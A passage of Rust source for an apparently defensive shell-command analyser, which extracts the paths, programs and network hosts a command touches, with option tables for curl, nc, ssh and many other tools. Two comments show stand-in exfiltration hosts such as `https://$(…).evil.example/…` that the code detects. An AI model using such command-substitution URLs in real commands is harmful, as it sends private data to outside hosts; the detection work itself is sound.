// readers
const HEAD: Spec = Spec::new("nc", "bytes lines");
const TAIL: Spec = Spec::new("ncs", "bytes lines max-unchanged-stats pid sleep-interval");
const TAC: Spec = Spec::new("s", "separator");
const NL: Spec = Spec::new(
    "bdfhilnsvw",
    "body-numbering footer-numbering header-numbering join-blank-lines line-increment \
     number-format number-separator number-width section-delimiter starting-line-number",
);
const LESS: Spec = Spec::new(
    "bhjkoOpPtTxyz#",
    "LOG-FILE log-file max-back-scroll max-forw-scroll pattern prompt shift tabs tag tag-file \
     window",
);
const MORE: Spec = Spec::new("n", "lines");
const BAT: Spec = Spec::new(
    "lHrm",
    "binary color completion decorations diff-context file-name highlight-line ignored-suffix \
     italic-text language line-range map-syntax nonprintable-notation pager paging strip-ansi \
     style tabs terminal-width theme theme-dark theme-light wrap",
);
const WC: Spec = Spec::new("", "files0-from");
const STRINGS: Spec = Spec::new("nteT", "bytes encoding output-separator radix target");
const XXD: Spec = Spec::new("cglonsR", "");
const HEXDUMP: Spec = Spec::new("efns", "format format-file length skip");
const OD: Spec =
    Spec::new("AjNtS", "address-radix endian format read-bytes skip-bytes").attached("w");
const BASE64: Spec = Spec::new("w", "wrap");
const FILE: Spec = Spec::new(
    "eFfmP",
    "exclude exclude-quiet files-from magic-file parameter separator",
);
const STAT: Spec = Spec::new("c", "format printf");
const CUT: Spec = Spec::new("bcdf", "bytes characters delimiter fields output-delimiter");
const PASTE: Spec = Spec::new("d", "delimiters");
const SORT: Spec = Spec::new(
    "kSoTt",
    "batch-size buffer-size compress-program field-separator files0-from key output parallel \
     random-source sort temporary-directory",
);
const UNIQ: Spec = Spec::new("fsw", "check-chars skip-chars skip-fields");
const DIFF: Spec = Spec::new(
    "CDFILSUWXx",
    "changed-group-format exclude exclude-from from-file horizon-lines ifdef \
     ignore-matching-lines label line-format new-group-format new-line-format old-group-format \
     old-line-format palette show-function-line starting-file tabsize to-file \
     unchanged-group-format unchanged-line-format width",
);
const CMP: Spec = Spec::new("in", "bytes ignore-initial");
const COMM: Spec = Spec::new("", "output-delimiter");
const JOIN: Spec = Spec::new("12aejotv", "");
const FOLD: Spec = Spec::new("w", "width");
const FMT: Spec = Spec::new("gpw", "goal prefix width");
const EXPAND: Spec = Spec::new("t", "tabs");

// searching and filtering
const GREP: Spec = Spec::new(
    "ABCDdefm",
    "after-context before-context binary-files context devices directories exclude exclude-dir \
     exclude-from file group-separator include label max-count regexp",
);
const RG: Spec = Spec::new(
    "ABCEMTdefgjmrt",
    "after-context before-context color colors context context-separator dfa-size-limit \
     encoding engine field-context-separator field-match-separator file generate glob \
     hostname-bin hyperlink-format iglob ignore-file max-columns max-count max-depth \
     max-filesize maxdepth path-separator pre pre-glob regex-size-limit regexp replace sort \
     sortr threads type type-add type-clear type-not",
);
const AG: Spec = Spec::new(
    "ABCGgmp",
    "after before context depth file-search-regex ignore ignore-dir max-count pager \
     path-to-ignore workers",
);
const SED: Spec = Spec::new("efl", "expression file line-length").attached("i");
const AWK: Spec =
    Spec::new("EFfilvW", "assign exec field-separator file include load").attached("dDopL");
const YQ: Spec = Spec::new(
    "opIs",
    "csv-separator expression from-file front-matter indent input-format output-format \
     properties-separator split-exp xml-attribute-prefix xml-content-name",
);

// writers
const TOUCH: Spec = Spec::new("drt", "date reference time");
const MKDIR: Spec = Spec::new("m", "mode");
const TRUNCATE: Spec = Spec::new("rs", "reference size");
const SHRED: Spec = Spec::new("ns", "iterations random-source size");
const CHOWN: Spec = Spec::new("", "from reference");
const CP: Spec = Spec::new("St", "no-preserve sparse suffix target-directory");
const INSTALL: Spec = Spec::new(
    "gmoSt",
    "group mode owner strip-program suffix target-directory",
);
const LN: Spec = Spec::new("St", "suffix target-directory");
const GIT_PATHS: Spec = Spec::new("", "pathspec-from-file");

// archives
const TAR: Spec = Spec::new(
    "bCfFgHIKLNTVX",
    "after-date blocking-factor checkpoint-action directory exclude exclude-from exclude-tag \
     exclude-tag-all exclude-tag-under file files-from format group group-map hole-detection \
     index-file info-script label level listed-incremental mode mtime new-volume-script newer \
     newer-mtime no-quote-chars owner owner-map pax-option quote-chars quoting-style \
     record-size rmt-command rsh-command sort starting-file strip-components suffix tape-length \
     to-command transform use-compress-program volno-file warning xattrs-exclude xattrs-include \
     xform",
);
const UNZIP: Spec = Spec::new("dPx", "");

// running other commands
const XARGS: Spec = Spec::new(
    "adEILnPsJRS",
    "arg-file delimiter max-args max-chars max-procs process-slot-var",
)
.attached("eil")
.strict();

// network
const CURL: Spec = Spec::new(
    "AbcCdDeEFHKmoPQrtTuUwxXyYz",
    "abstract-unix-socket alt-svc aws-sigv4 cacert capath cert cert-type ciphers config \
     connect-timeout connect-to continue-at cookie cookie-jar create-file-mode crlfile curves \
     data data-ascii data-binary data-raw data-urlencode delegation dns-interface dns-ipv4-addr \
     dns-ipv6-addr dns-servers doh-url dump-header ech egd-file engine etag-compare etag-save \
     expect100-timeout form form-string ftp-account ftp-alternative-to-user ftp-method ftp-port \
     ftp-ssl-ccc-mode happy-eyeballs-timeout-ms haproxy-clientip header hostpubmd5 \
     hostpubsha256 hsts interface ip-tos ipfs-gateway json keepalive-cnt keepalive-time key \
     key-type knownhosts krb krb4 libcurl limit-rate local-port login-options mail-auth \
     mail-from mail-rcpt max-filesize max-redirs max-time netrc-file noproxy oauth2-bearer \
     output output-dir parallel-max parallel-max-host pass pinnedpubkey preproxy proto \
     proto-default proto-redir proxy proxy-cacert proxy-capath proxy-cert proxy-cert-type \
     proxy-ciphers proxy-crlfile proxy-header proxy-key proxy-key-type proxy-pass \
     proxy-pinnedpubkey proxy-service-name proxy-tls13-ciphers proxy-tlsauthtype \
     proxy-tlspassword proxy-tlsuser proxy-user proxy1.0 pubkey quote random-file range rate \
     referer request request-target resolve retry retry-delay retry-max-time sasl-authzid \
     service-name sigalgs socks4 socks4a socks5 socks5-gssapi-service socks5-hostname \
     speed-limit speed-time ssl-sessions stderr telnet-option tftp-blksize time-cond tls-max \
     tls13-ciphers tlsauthtype tlspassword tlsuser trace trace-ascii trace-config unix-socket \
     upload-file upload-flags url url-query user user-agent variable vlan-priority write-out",
);
const WGET: Spec = Spec::new(
    "aABDeIilOoPQRTtUwX",
    "accept accept-regex append-output backups base bind-address bind-dns-address body-data \
     body-file ca-certificate ca-directory certificate certificate-type ciphers compression \
     config connect-timeout crl-file cut-dirs default-page directory-prefix dns-servers \
     dns-timeout domains egd-file exclude-directories exclude-domains execute follow-tags \
     ftp-password ftp-user header hsts-file http-password http-user ignore-tags \
     include-directories input-file level limit-rate load-cookies local-encoding max-redirect \
     method output-document output-file password pinnedpubkey post-data post-file prefer-family \
     private-key private-key-type progress proxy-password proxy-user quota random-file \
     read-timeout referer regex-type reject reject-regex rejected-log remote-encoding \
     report-speed restrict-file-names retry-on-http-error save-cookies secure-protocol timeout \
     tries user user-agent wait waitretry warc-file warc-header warc-max-size warc-tempdir",
);
const HTTPIE: Spec = Spec::new(
    "aAoPps",
    "auth auth-type boundary cert cert-key cert-key-pass ciphers default-scheme format-options \
     history-print max-headers max-redirects output pretty print proxy response-charset \
     response-mime session session-read-only ssl style timeout verify",
);
const SSH: Spec = Spec::new("BbcDEeFIiJLlmOoPpQRSWw", "").strict();
const SCP: Spec = Spec::new("cDFiJlMoPSX", "").strict();
const SFTP: Spec = Spec::new("BbcDFiJloPRSs", "").strict();
const RSYNC: Spec = Spec::new(
    "@BefMT",
    "address backup-dir block-size bwlimit checksum-choice chmod chown compare-dest \
     compress-choice compress-level contimeout copy-dest debug exclude exclude-from files-from \
     filter groupmap iconv include include-from info link-dest log-file log-file-format \
     max-alloc max-delete max-size min-size modify-window only-write-batch out-format outbuf \
     partial-dir password-file port protocol read-batch remote-option rsh rsync-path \
     skip-compress sockopts stop-after stop-at suffix temp-dir timeout usermap write-batch",
);
const MOSH: Spec = Spec::new(
    "p",
    "bind-server client experimental-remote-ip family port predict server ssh",
)
.strict();
const TELNET: Spec = Spec::new("beklnX", "").strict();
const FTP: Spec = Spec::new("oPqrsT", "").strict();
const NC: Spec = Spec::new(
    "ceGgIiMmOoPpqsTVWwXx",
    "allow allowfile delay deny denyfile exec hex-dump idle-timeout lua-exec max-conns output \
     proxy proxy-auth proxy-dns proxy-type sh-exec source source-port ssl-alpn ssl-cert \
     ssl-ciphers ssl-key ssl-servername ssl-trustfile wait",
);
const PING: Spec = Spec::new("cFegGIilMmNpQSsTtWwz", "");
const HOST: Spec = Spec::new("cmNpRtW", "");
const PSQL: Spec = Spec::new(
    "cdFfhLoPpRTUv",
    "command dbname field-separator file host log-file output port pset record-separator set \
     table-attr username variable",
);
const PG_DUMP: Spec = Spec::new(
    "dEfFhjnNpStTUZ",
    "compress dbname encoding exclude-schema exclude-table exclude-table-data file format host \
     jobs lock-wait-timeout port role schema section superuser table username",
);
const MYSQL: Spec = Spec::new(
    "DehPrSu",
    "database default-character-set defaults-extra-file defaults-file execute host port \
     result-file socket user",
)
.attached("p");
const REDIS_CLI: Spec = Spec::new(
    "adDhinprsu",
    "cacert cacertdir cert count eval intrinsic-latency key memkeys-samples pass pattern \
     quoted-pattern rdb sni tls-ciphers tls-ciphersuites user",
)
.strict();
const MONGO: Spec = Spec::new(
    "fpu",
    "authenticationDatabase eval file host password port username",
);
const GIT: Spec = Spec::new(
    "Cc",
    "attr-source config-env git-dir list-cmds namespace super-prefix work-tree",
)
.strict();
const GIT_CLONE: Spec = Spec::new(
    "bcjou",
    "branch bundle-uri config depth filter jobs origin ref-format reference reference-if-able \
     revision separate-git-dir server-option shallow-exclude shallow-since template upload-pack",
);
const GIT_REMOTE: Spec = Spec::new(
    "josX",
    "deepen depth exec filter jobs negotiation-tip push-option receive-pack recurse-submodules \
     refmap repo server-option shallow-exclude shallow-since sort strategy strategy-option \
     submodule-prefix upload-pack",
);

// ------------------------------------------------------------------- hosts

/// A host name or address as written, lower-cased. An expansion is no host,
/// but a literal suffix after one is (`$(…).evil.example` → `evil.example`).
fn clean_host(h: &str, dynamic: bool) -> Option<String> {
    let mut h = h;
    if dynamic && h.contains(['$', '`']) {
        h = static_suffix(h)?.strip_prefix('.')?;
        if !h.contains('.') {
            return None;
        }
    }
    let h = h
        .strip_prefix('[')
        .and_then(|x| x.strip_suffix(']'))
        .unwrap_or(h)
        .trim_end_matches('.');
    let plausible = !h.is_empty()
        && h.len() <= 253
        && !h.starts_with(['-', '.'])
        && h.bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b':'))
        && !h.bytes().all(|c| c.is_ascii_digit());
    plausible.then(|| h.to_ascii_lowercase())
}

/// What follows the last expansion in `s`, if it has one.
fn static_suffix(s: &str) -> Option<&str> {
    let b = s.as_bytes();
    let mut end = None;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'$' => {
                let j = match b.get(i + 1) {
                    Some(b'(') => skip_parens(b, i + 2, 1),
                    Some(b'{') => skip_braces(b, i + 2),
                    Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
                        let mut j = i + 1;
                        while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                            j += 1;
                        }
                        j
                    }
                    Some(c) if c.is_ascii() => i + 2,
                    _ => i + 1,
                };
                end = Some(j);
                i = j;
            }
            b'`' => {
                let j = b[i + 1..]
                    .iter()
                    .position(|&c| c == b'`')
                    .map_or(b.len(), |k| i + k + 2);
                end = Some(j);
                i = j;
            }
            _ => i += 1,
        }
    }
    s.get(end?.min(b.len())..)
}

/// `host`, `host:port`, `[v6]:port` → the host.
fn strip_port(a: &str) -> &str {
    if let Some(v6) = a.strip_prefix('[') {
        return v6.split(']').next().unwrap_or(v6);
    }
    match a.split_once(':') {
        Some((h, port)) if !port.contains(':') => h,
        _ => a,
    }
}

/// The authority's hosts of `scheme://[user@]host[:port][,host2…]/…`.
fn url_hosts(s: &str, dynamic: bool) -> Vec<String> {
    let Some((scheme, rest)) = s.split_once("://") else {
        return Vec::new();
    };
    if scheme.is_empty()
        || !scheme
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
    {
        return Vec::new();
    }
    let hosts = authority_hosts(rest, dynamic);
    if hosts.is_empty() && dynamic {
        // `https://$(…).evil.example/…`: the expansion may hold a `/`
        if let Some(tail) = static_suffix(rest) {
            return authority_hosts(tail, false)
                .into_iter()
                .filter(|h| h.contains('.'))
                .collect();
        }
    }
    hosts
}

fn authority_hosts(rest: &str, dynamic: bool) -> Vec<String> {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let hosts = authority.rsplit('@').next().unwrap_or_default();
    hosts
        .split(',')
        .filter_map(|h| {
            let h = if dynamic && h.starts_with('.') {
                // the literal suffix after an expansion
                h.trim_start_matches('.')
            } else {
                h
            };
            clean_host(strip_port(h), dynamic)
        })
        .collect()
}

fn url_host(s: &str, dynamic: bool) -> Option<String> {
    url_hosts(s, dynamic).into_iter().next()
}

/// A URL, or a scheme-less `host[:port][/path]` (curl, wget, HTTPie operands).
fn url_or_bare_host(v: Val) -> Option<String> {
    if v.opaque {
        return None;
    }
    if v.text.contains("://") {
        return url_host(v.text, v.dynamic);
    }
    let authority = v.text.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    clean_host(strip_port(host), v.dynamic)
}

/// `[user@]host[:port]` or `scheme://…` (ssh, sftp, telnet, ftp, jump hosts).
fn endpoint_host(v: Val) -> Option<String> {
    if v.opaque {
        return None;
    }
    if v.text.contains("://") {
        return url_host(v.text, v.dynamic);
    }
    let host = v.text.rsplit('@').next()?;
    clean_host(strip_port(host), v.dynamic)
}

/// The host of a remote `[user@]host:path` (a colon before any slash), or of a
/// URL (scp, rsync, git). A local path gives none.
fn remote_host(v: Val) -> Option<String> {
    if v.opaque {
        return None;
    }
    let s = v.text;
    if s.contains("://") {
        return url_host(s, v.dynamic);
    }
    let colon = match s.find('[') {
        Some(open) => {
            let close = open + s[open..].find(']')?;
            (s.as_bytes().get(close + 1) == Some(&b':')).then_some(close + 1)?
        }
        None => s.find(':')?,
    };
    let before = &s[..colon];
    if before.contains('/') {
        return None;
    }
    clean_host(before.rsplit('@').next()?, v.dynamic)
}

fn is_port(s: &str) -> bool {
    !s.is_empty()
        && s.split('-')
            .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()))
}

/// Record types and classes, space-separated.
const DNS_TYPES: &str = "A AAAA AFSDB ANY APL AXFR CAA CDNSKEY CDS CERT CNAME DNAME DNSKEY DS HINFO HTTPS IPSECKEY IXFR \
 KEY LOC MX NAPTR NS NSEC NSEC3 PTR RRSIG SIG SOA SPF SRV SSHFP SVCB TLSA TXT URI IN CH CHAOS \
 HS HESIOD NONE";

fn is_dns_type(t: &str) -> bool {
    DNS_TYPES.split(' ').any(|d| d.eq_ignore_ascii_case(t))
        || t.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("TYPE"))
            && t[4..].bytes().all(|c| c.is_ascii_digit())
}

fn is_http_method(t: &str) -> bool {
    matches!(
        t,
        "GET" | "POST" | "PUT" | "PATCH" | "DELETE" | "HEAD" | "OPTIONS" | "TRACE" | "CONNECT"
    )
}

/// The file of an HTTPie request item `field@file`, `field=@file`, `field:=@file`.
fn request_item_file(t: &str) -> Option<&str> {
    let i = t.find([':', '=', '@'])?;
    let rest = &t[i..];
    let file = rest
        .strip_prefix('@')
        .or_else(|| rest.strip_prefix("=@"))
        .or_else(|| rest.strip_prefix(":=@"))?;
    (!file.is_empty()).then_some(file)
}

/// `NAME=…` or `NAME+=…` by its text alone, as `env` and `sudo` read their
/// arguments (after the shell removed the quotes).
fn names_a_variable(text: &str) -> bool {
    text.split_once('=')
        .is_some_and(|(n, _)| is_name(n.strip_suffix('+').unwrap_or(n)))
}

fn path_ok(t: &str, opaque: bool) -> bool {
    !opaque
        && !t.is_empty()
        && t != "-"
        && !t.contains("://")
        && !matches!(
            t,
            "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr" | "/dev/tty"
        )
        && !t.starts_with("/dev/fd/")
}

/// `dir/p` for a relative `p` (`tar -C dir`); `None` when `dir` is unknown.
fn join_dir(dir: Option<Val>, p: Val) -> Option<String> {
    match dir {
        _ if p.text.starts_with(['/', '~']) => Some(p.text.to_string()),
        None => Some(p.text.to_string()),
        Some(d) if d.opaque => None,
        Some(d) if d.text == "." => Some(p.text.to_string()),
        Some(d) => Some(format!("{}/{}", d.text.trim_end_matches('/'), p.text)),
    }
}

/// The arguments of `find`'s or `xargs`'s command with `{}` (or the `-I`
/// string) as a placeholder: not a path.
fn with_placeholder(args: &[Arg], placeholder: &str) -> Vec<Arg> {
    args.iter()
        .map(|a| {
            let mut a = a.clone();
            if a.text.contains(placeholder) {
                a.opaque = true;
                a.dynamic = true;
            }
            a
        })
        .collect()
}

// -------------------------------------------------------------------- walk

#[derive(Default)]
struct Walk {
    facts: CommandFacts,
    /// the argv of each simple command, for [`simple_commands`]
    argvs: Option<Vec<Vec<String>>>,
    /// > 0 while re-analysing a command already recorded
    mute: usize,
    work: usize,
}

impl Walk {
    fn spend(&mut self, n: usize) -> bool {
        self.work = self.work.saturating_add(n + 1);
        self.work <= MAX_WORK
    }

    fn script(&mut self, src: &str, depth: usize) {
        if depth > MAX_DEPTH || !self.spend(src.len()) {
            return;
        }
        for cmd in parse(Lexer::new(src, depth).tokens(false)) {
            self.cmd(cmd, depth);
        }
    }

    fn cmd(&mut self, cmd: Cmd, depth: usize) {
        let mut stdin = None;
        for r in cmd.redirects {
            let target = Arg::from(r.target);
            let v = Val::of(&target);
            match r.kind {
                Redir::Read => self.read(v),
                Redir::Write => self.write(v),
                Redir::ReadWrite => {
                    self.read(v);
                    self.write(v);
                }
                Redir::DupOut if !(target.text == "-" || is_port(&target.text)) => self.write(v),
                Redir::DupOut | Redir::DupIn => {}
                Redir::HereDoc { .. } => stdin = r.body,
                Redir::HereString => stdin = Some(target.text),
            }
        }
        let argv: Vec<Arg> = cmd.words.into_iter().map(Arg::from).collect();
        self.run(&argv, depth, stdin.as_deref());
    }

    fn read(&mut self, v: Val) {
        if path_ok(v.text, v.opaque) {
            self.facts.paths_read.push(v.text.to_string());
        }
    }

    fn write(&mut self, v: Val) {
        if path_ok(v.text, v.opaque) {
            self.facts.paths_written.push(v.text.to_string());
        }
    }

    fn path(&mut self, written: bool, p: Option<String>) {
        if let Some(p) = p.filter(|p| path_ok(p, false)) {
            if written {
                self.facts.paths_written.push(p);
            } else {
                self.facts.paths_read.push(p);
            }
        }
    }

    fn host(&mut self, h: Option<String>) {
        self.facts.network_hosts.extend(h);
    }

    /// One simple command's words.
    fn run(&mut self, argv: &[Arg], depth: usize, stdin: Option<&str>) {
        if depth > MAX_DEPTH || !self.spend(argv.len()) {
            return;
        }
        let Some(start) = self.unwrap(argv, depth, stdin) else {
            return;
        };
        let argv = &argv[start..];
        let Some(first) = argv.first() else {
            return;
        };
        if self.mute == 0
            && let Some(argvs) = &mut self.argvs
        {
            argvs.push(argv.iter().map(|a| a.text.clone()).collect());
        }
        self.facts.programs.push(first.text.clone());
        if !first.opaque {
            self.program(basename(&first.text), &argv[1..], depth, stdin);
        }
    }

    /// Skips assignments and wrappers: the index of the real command, or `None`
    /// when the wrapper was handled here.
    fn unwrap(&mut self, argv: &[Arg], depth: usize, stdin: Option<&str>) -> Option<usize> {
        let mut i = 0;
        // before the command the shell assigns; after `env`, `sudo`, … the wrapper does
        let mut by_the_shell = true;
        loop {
            while argv.get(i).is_some_and(|a| {
                if by_the_shell {
                    a.assignment
                } else {
                    !a.opaque && names_a_variable(&a.text)
                }
            }) {
                i += 1;
            }
            by_the_shell = false;
            let w = argv.get(i)?;
            if w.opaque {
                return Some(i);
            }
            let name = basename(&w.text);
            let args = &argv[i + 1..];
            let next = match name {
                "nohup" | "builtin" | "busybox" => 0,
                "setsid" | "command" => {
                    let p = parse_args(args, &STRICT);
                    if name == "command" && (p.has('v', "") || p.has('V', "")) {
                        return Some(i); // `command -v x` only looks x up
                    }
                    p.rest
                }
                "exec" => parse_args(args, &EXEC).rest,
                "nice" => parse_args(args, &NICE).rest,
                "ionice" => parse_args(args, &IONICE).rest,
                "stdbuf" => parse_args(args, &STDBUF).rest,
                "doas" => parse_args(args, &DOAS).rest,
                "time" => {
                    let p = parse_args(args, &TIME);
                    for v in p.values('o', "output") {
                        self.write(v);
                    }
                    p.rest
                }
                "timeout" => {
                    let p = parse_args(args, &TIMEOUT);
                    p.rest.saturating_add(1) // the duration
                }
                "sudo" | "sudoedit" => {
                    let p = parse_args(args, &SUDO);
                    if name == "sudoedit" || p.has('e', "edit") {
                        for v in &p.operands {
                            self.write(*v);
                        }
                        return Some(i); // edits, runs nothing
                    }
                    p.rest
                }
                "env" => {
                    let p = parse_args(args, &ENV);
                    if let Some(s) = p.values('S', "split-string").next() {
                        // `env -S 'cmd args' more`: the string's words, then the rest
                        let mut split: Vec<Arg> = Lexer::new(s.text, MAX_DEPTH)
                            .tokens(false)
                            .into_iter()
                            .filter_map(|t| match t {
                                Tok::Word(w) => Some(Arg::from(w)),
                                _ => None,
                            })
                            .collect();
                        split.extend_from_slice(&args[p.rest..]);
                        self.run(&split, depth + 1, stdin);
                        return None;
                    }
                    // `env -` is `env -i`
                    p.rest + usize::from(args.get(p.rest).is_some_and(|a| a.text == "-"))
                }
                _ => return Some(i),
            };
            if next >= args.len() {
                return Some(i); // a wrapper without a command runs itself
            }
            i += 1 + next;
        }
    }

    fn program(&mut self, prog: &str, args: &[Arg], depth: usize, stdin: Option<&str>) {
        match prog {
            "cat" | "tac" | "nl" | "less" | "more" | "bat" | "batcat" | "wc" | "strings"
            | "xxd" | "hexdump" | "hd" | "od" | "base64" | "base32" | "md5sum" | "sha1sum"
            | "sha224sum" | "sha256sum" | "sha384sum" | "sha512sum" | "b2sum" | "cksum"
            | "shasum" | "md5" | "file" | "stat" | "zcat" | "bzcat" | "xzcat" | "zstdcat"
            | "rev" | "fold" | "fmt" | "expand" | "unexpand" | "paste" | "cut" | "sort"
            | "uniq" | "diff" | "cmp" | "comm" | "join" | "head" | "tail" => {
                self.reader(prog, args);
            }
            "source" | "." => {
                if let Some(a) = args.iter().find(|a| a.text != "--") {
                    self.read(Val::of(a));
                }
            }
            "grep" | "egrep" | "fgrep" | "zgrep" | "rg" | "ag" => self.search(prog, args),
            "sed" => self.sed(args),
            "awk" | "gawk" | "mawk" | "nawk" => self.awk(args),
            "jq" | "gojq" | "jaq" => self.jq(args),
            "yq" => self.yq(args),
            "tee" | "rm" | "rmdir" | "unlink" | "touch" | "mkdir" | "truncate" | "shred" => {
                self.writer(prog, args);
            }
            "chmod" | "chown" | "chgrp" => self.chmod(prog, args),
            "cp" | "mv" | "install" | "ln" => self.copy(prog, args),
            "dd" => {
                for a in args {
                    if let Some(p) = a.text.strip_prefix("if=") {
                        self.read(Val::of(a).sub(p));
                    } else if let Some(p) = a.text.strip_prefix("of=") {
                        self.write(Val::of(a).sub(p));
                    }
                }
            }
            "tar" | "gtar" | "bsdtar" => self.tar(args),
            "unzip" => self.unzip(args),
            "find" => self.find(args, depth),
            "xargs" => self.xargs(args, depth),
            "bash" | "sh" | "zsh" | "dash" | "ksh" | "ash" | "mksh" => {
                self.shell(args, depth, stdin);
            }
            "eval" => {
                let script: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
                self.script(&script.join(" "), depth + 1);
            }
            "curl" => self.curl(args),
            "wget" => self.wget(args),
            "http" | "https" | "xh" | "xhs" => self.httpie(args),
            "git" => self.git(args),
            "ssh" => self.ssh(args),
            "scp" | "rsync" => self.copy_remote(prog, args),
            "sftp" | "mosh" | "telnet" | "ftp" => self.endpoint(prog, args),
            "nc" | "ncat" | "netcat" => self.nc(args),
            "socat" => self.socat(args, depth),
            "ping" | "ping6" => {
                let p = parse_args(args, &PING);
                if let Some(v) = p.operands.first() {
                    self.host(clean_host(v.text, v.dynamic).filter(|_| !v.opaque));
                }
            }
            "dig" => self.dig(args),
            "nslookup" | "host" => self.lookup(prog, args),
            "psql" | "pg_dump" | "pg_dumpall" => self.psql(prog, args),
            "mysql" | "mysqldump" | "mariadb" => {
                let p = parse_args(args, &MYSQL);
                for v in p.values('h', "host") {
                    self.host(clean_host(v.text, v.dynamic).filter(|_| !v.opaque));
                }
                for v in p.values('r', "result-file") {
                    if prog == "mysqldump" {
                        self.write(v);
                    }
                }
            }
            "redis-cli" => {
                let p = parse_args(args, &REDIS_CLI);
                for o in &p.opts {
                    match (o.name, o.value) {
                        (Name::S('h'), Some(v)) => {
                            self.host(clean_host(v.text, v.dynamic).filter(|_| !v.opaque));
                        }
                        (Name::S('u'), Some(v)) => self.host(url_host(v.text, v.dynamic)),
                        _ => {}
                    }
                }
            }
            "mongosh" | "mongo" => {
                let p = parse_args(args, &MONGO);
                for v in p.values('\0', "host") {
                    // `rs0/h1:27017,h2`
                    let list = v.text.rsplit('/').next().unwrap_or_default();
                    for h in list.split(',') {
                        self.host(clean_host(strip_port(h), v.dynamic).filter(|_| !v.opaque));
                    }
                }
                for v in &p.operands {
                    self.facts
                        .network_hosts
                        .extend(url_hosts(v.text, v.dynamic));
                }
            }
            "node" | "nodejs" | "bun" => self.code_flags(
                args,
                &["-e", "--eval", "-p", "--print"],
                &[
                    "-r",
                    "--require",
                    "--import",
                    "--loader",
                    "--experimental-loader",
                    "--input-type",
                    "-C",
                    "--conditions",
                ],
                stdin,
            ),
            "ruby" => self.code_flags(args, &["-e"], &["-r", "-I", "-C", "-E"], stdin),
            "php" => self.code_flags(args, &["-r"], &["-d", "-c", "-z"], stdin),
            "perl" => self.perl(args, stdin),
            p if p.starts_with("python") => self.code_flags(
                args,
                &["-c"],
                &["-W", "-X", "--check-hash-based-pycs"],
                stdin,
            ),
            _ => {}
        }
    }

    fn reader(&mut self, prog: &str, args: &[Arg]) {
        let spec = match prog {
            "head" => &HEAD,
            "tail" => &TAIL,
            "tac" => &TAC,
            "nl" => &NL,
            "less" => &LESS,
            "more" => &MORE,
            "bat" | "batcat" => &BAT,
            "wc" => &WC,
            "strings" => &STRINGS,
            "xxd" => &XXD,
            "hexdump" | "hd" => &HEXDUMP,
            "od" => &OD,
            "base64" | "base32" => &BASE64,
            "file" => &FILE,
            "stat" => &STAT,
            "cut" => &CUT,
            "paste" => &PASTE,
            "sort" => &SORT,
            "uniq" => &UNIQ,
            "diff" => &DIFF,
            "cmp" => &CMP,
            "comm" => &COMM,
            "join" => &JOIN,
            "fold" => &FOLD,
            "fmt" => &FMT,
            "expand" | "unexpand" => &EXPAND,
            _ => &NO_OPTS,
        };
        let p = parse_args(args, spec);
        let ops = &p.operands;
        match prog {
            // `+N`: a line number or a command, not a file
            "head" | "tail" | "less" | "more" => {
                for v in ops.iter().filter(|v| !v.text.starts_with('+')) {
                    self.read(*v);
                }
            }
            // BSD `stat -f %z f`
            "stat" => {
                for v in ops.iter().filter(|v| !v.text.starts_with('%')) {
                    self.read(*v);
                }
            }
            "cmp" | "comm" | "join" => {
                for v in ops.iter().take(2) {
                    self.read(*v);
                }
            }
            // `uniq in out`, `xxd in out`
            "uniq" | "xxd" => {
                if let Some(v) = ops.first() {
                    self.read(*v);
                }
                if let Some(v) = ops.get(1) {
                    self.write(*v);
                }
            }
            _ => {
                for v in ops {
                    self.read(*v);
                }
            }
        }
        for o in &p.opts {
            let Some(v) = o.value else { continue };
            let (read, write) = match (prog, o.name) {
                ("wc" | "sort", Name::L("files0-from"))
                | ("sort", Name::L("random-source"))
                | ("file", Name::S('f') | Name::L("files-from"))
                | ("hexdump" | "hd", Name::S('f') | Name::L("format-file"))
                | ("diff", Name::S('X') | Name::L("exclude-from" | "from-file" | "to-file")) => {
                    (true, false)
                }
                ("sort", Name::S('o') | Name::L("output")) => (false, true),
                _ => (false, false),
            };
            if read {
                self.read(v);
            }
            if write {
                self.write(v);
            }
        }
    }

    fn search(&mut self, prog: &str, args: &[Arg]) {
        let spec = match prog {
            "rg" => &RG,
            "ag" => &AG,
            _ => &GREP,
        };
        let p = parse_args(args, spec);
        // the first operand is the pattern unless an option gave it
        let mut given = false;
        for o in &p.opts {
            match (o.name, prog) {
                (Name::S('e') | Name::L("regexp"), _) => given = true,
                (Name::S('f') | Name::L("file"), "grep" | "egrep" | "fgrep" | "zgrep" | "rg") => {
                    given = true;
                    if let Some(v) = o.value {
                        self.read(v);
                    }
                }
                (Name::L("exclude-from" | "ignore-file" | "path-to-ignore"), _)
                | (Name::S('p'), "ag") => {
                    if let Some(v) = o.value {
                        self.read(v);
                    }
                }
                // `ag -g PAT`, `rg --files`: list files, no pattern
                (Name::S('g'), "ag") | (Name::L("files" | "type-list"), "rg") => given = true,
                _ => {}
            }
        }
        let files = if given {
            &p.operands[..]
        } else {
            p.operands.get(1..).unwrap_or(&[])
        };
        for v in files {
            self.read(*v);
        }
    }

    fn sed(&mut self, args: &[Arg]) {
        let p = parse_args(args, &SED);
        let in_place = p.has('i', "in-place");
        let mut given = false;
        for o in &p.opts {
            if o.name.is('e', "expression") {
                given = true;
            } else if o.name.is('f', "file") {
                given = true;
                if let Some(v) = o.value {
                    self.read(v);
                }
            }
        }
        let mut ops = &p.operands[..];
        // BSD `sed -i '' …`: the empty word is the backup suffix
        if args.iter().any(|a| a.text == "-i") && ops.first().is_some_and(|v| v.text.is_empty()) {
            ops = &ops[1..];
        }
        let files = if given {
            ops
        } else {
            ops.get(1..).unwrap_or(&[])
        };
        for v in files {
            if in_place {
                self.write(*v);
            } else {
                self.read(*v);
            }
        }
    }

    fn awk(&mut self, args: &[Arg]) {
        let p = parse_args(args, &AWK);
        let mut given = false;
        for o in &p.opts {
            if o.name.is('f', "file") || o.name.is('E', "exec") {
                given = true;
